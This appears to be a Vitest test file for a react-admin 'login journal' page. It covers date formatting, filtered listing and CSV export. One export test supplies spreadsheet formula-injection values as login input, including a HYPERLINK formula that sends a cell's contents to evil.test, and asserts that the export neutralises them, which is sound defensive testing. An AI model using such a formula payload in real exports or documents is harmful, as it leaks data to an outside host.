import { screen, waitFor } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { HttpResponse, http } from 'msw';
import { AdminUI } from 'react-admin';
import { beforeEach, describe, expect, it, vi } from 'vitest';
import * as files from '../../src/components/useFileDownload';
import { resourceEndpoints } from '../../src/dataProvider/resources';
import { views as journalViews } from '../../src/resources/journal/views';
import { declaredRoutes } from './declaredRoutes';
import { formatJournalDate } from '../../src/resources/journal/journalDate';
import { createTestProviders } from './msw/providers';
import { gw, server, setupMswServer } from './msw/server';
import { COMPONENT_TEST, RENDER_WAIT, identityWith, renderWithAdmin } from './test-utils';

setupMswServer();
beforeEach(() => localStorage.clear());

const row = (id: string, success: boolean, created_at: string, user: { id: string; name: string } | null) => ({
  id,
  user,
  input: 'ghost',
  ip: '10.0.0.1',
  host: 'sales.example.ru',
  success,
  created_at,
});

describe('login journal', () => {
  it('formats dates as DD.MM.YYYY HH:mm:ss on a 24-hour clock', () => {
    const afternoon = new Date(2026, 2, 5, 15, 4, 9).toISOString();
    expect(formatJournalDate(afternoon)).toBe('05.03.2026 15:04:09');
    expect(formatJournalDate(null)).toBe('');
  });

  it('lists user, IP, host, result and date, newest first, and sends the filters', COMPONENT_TEST, async () => {
    const queries: URLSearchParams[] = [];
    const date = new Date(2026, 0, 15, 13, 30, 45).toISOString();
    server.use(
      http.get(gw('/auth/history/login'), ({ request }) => {
        queries.push(new URL(request.url).searchParams);
        return HttpResponse.json({ data: [row('1', true, date, { id: 'u1', name: 'Иван Агентов' }), row('2', false, date, null)], total: 2, perPage: 25, page: 1 });
      }),
    );
    const { dataProvider } = createTestProviders({ journal: resourceEndpoints.journal });
    renderWithAdmin(
      <AdminUI>
        {declaredRoutes(journalViews)}
      </AdminUI>,
      { dataProvider, path: '/staff/journal?filter=%7B%22success%22%3Afalse%2C%22date_from%22%3A%222026-01-01%22%7D', identity: identityWith(['ADMIN']) },
    );
    expect(await screen.findByText('Иван Агентов', {}, RENDER_WAIT)).toBeInTheDocument();
    expect(screen.getByText('ghost')).toBeInTheDocument();
    expect(screen.getAllByText('sales.example.ru')).toHaveLength(2);
    expect(screen.getAllByText('15.01.2026 13:30:45')).toHaveLength(2);
    expect(screen.getAllByText('Успешно').length).toBeGreaterThan(0);
    await waitFor(() => expect(queries.at(-1)?.get('success')).toBe('false'));
    expect(queries.at(-1)?.get('date_from')).toBe('2026-01-01');
    expect(queries.at(-1)?.get('order')).toBe('DESC');
  });

  it('exports what was typed and the Host header with formulas neutralised (issue 23)', COMPONENT_TEST, async () => {
    const saved: { name: string; text: Promise<string> }[] = [];
    vi.spyOn(files, 'saveBlob').mockImplementation((blob, name) => void saved.push({ name, text: blob.text() }));
    const date = '2026-01-15T10:30:45.000Z';
    const typed = { ...row('1', false, date, null), input: '=HYPERLINK("http://evil.test/?"&A2,"Open")', host: '@evil.test', ip: '-1+1' };
    server.use(http.get(gw('/auth/history/login'), () => HttpResponse.json({ data: [typed], total: 1, perPage: 1000, page: 1 })));
    const { dataProvider } = createTestProviders({ journal: resourceEndpoints.journal });
    renderWithAdmin(
      <AdminUI>
        {declaredRoutes(journalViews)}
      </AdminUI>,
      { dataProvider, path: '/staff/journal', identity: identityWith(['ADMIN']) },
    );
    await screen.findByText('@evil.test', {}, RENDER_WAIT);
    await userEvent.click(screen.getByRole('button', { name: 'Экспорт' }));
    await waitFor(() => expect(saved).toHaveLength(1));
    expect(saved[0]!.name).toBe('journal.csv');
    const [header, line] = (await saved[0]!.text).replace(/^\uFEFF/, '').split('\r\n');
    const cells = Object.fromEntries(header!.split(';').map((name, index) => [name, line!.split(';')[index]]));
    // headed by the fields' labels, a flag in words (issue 27)
    expect(cells).toMatchObject({ 'Введенный логин': `"'=HYPERLINK(""http://evil.test/?""&A2,""Open"")"`, Хост: "'@evil.test", IP: "'-1+1", Результат: 'Нет' });
  });
});
